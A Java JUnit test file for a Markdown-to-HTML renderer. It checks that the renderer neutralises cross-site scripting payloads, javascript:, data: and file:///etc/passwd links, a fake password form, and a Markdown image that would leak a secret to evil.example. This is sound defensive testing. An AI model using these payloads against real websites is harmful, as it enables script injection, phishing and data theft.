package dev.plimsoll.ui.prose;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ProseHtmlTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "a <img src=x onerror=alert(1)> b",
        "<div style='position:fixed;inset:0'>Sign in</div>",
        "<!-- hidden -->",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<form action=https://evil.example><input name=password></form>"
      })
  void shows_html_as_the_text_that_it_is(String html) {
    var shown = Jsoup.parseBodyFragment(ProseHtml.of(html, false)).body();
    assertThat(shown.wholeText().strip()).isEqualTo(html);
    assertThat(shown.select(":not(p):not(body)")).isEmpty();
  }

  @Test
  void loads_no_picture_and_shows_its_source() {
    var html = ProseHtml.of("![leak](https://evil.example/?q=secret)", false);
    assertThat(html).isEqualTo("<p>![leak](https://evil.example/?q=secret)</p>\n");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
        "[x](file:///etc/passwd)",
        "[x](//evil.example)",
        "[x](/admin/people)",
        "[x](#passage-none)",
        "<javascript:alert(1)>"
      })
  void makes_no_link_of_another_kind(String markdown) {
    assertThat(Jsoup.parseBodyFragment(ProseHtml.of(markdown, false)).select("a")).isEmpty();
  }

  @Test
  void keeps_links_to_the_web_to_mail_and_to_passages() {
    var html =
        ProseHtml.of("[a](https://a.example 'T') [b](mailto:b@b.example) [1](#passage-1)", false);
    assertThat(html)
        .contains(
            "<a href=\"https://a.example\" rel=\"noopener noreferrer nofollow\">a</a>",
            "href=\"mailto:b@b.example\"",
            "href=\"#passage-1\"")
        .doesNotContain("title=");
  }

  @Test
  void keeps_the_form_of_a_text() {
    var html =
        ProseHtml.of("# H\n\n1. *one*\n2. `two`\n\n| a |\n|--:|\n| b |\n\n```js\nx\n```", false);
    assertThat(html)
        .contains("<h1>H</h1>", "<li><em>one</em></li>", "<code>two</code>")
        .contains("<td align=\"right\">b</td>", "<pre><code>x\n</code></pre>");
  }

  @ParameterizedTest
  @ValueSource(strings = {">", "*a ", "_(", "[", "![", "**a *b ", "- ", "1. "})
  void bears_a_text_of_any_depth(String part) {
    for (var text :
        List.of(part.repeat(5_000) + "end", part.repeat(5_000) + "end" + "*".repeat(5_000))) {
      assertThat(ProseHtml.of(text, true)).contains("end").doesNotContain("<script");
    }
  }

  @Test
  void tells_those_who_judge_where_a_link_leads_to() {
    assertThat(ProseHtml.of("[bank](https://evil.example)", true))
        .contains(">bank</a> (https://evil.example)");
  }

  @Test
  void shows_those_who_judge_what_is_hidden() {
    var shown = Prose.judged("pay\u202E100\u200B").getElement().getProperty("innerHTML");
    assertThat(shown).contains("pay⟦U+202E⟧100⟦U+200B⟧");
  }
}
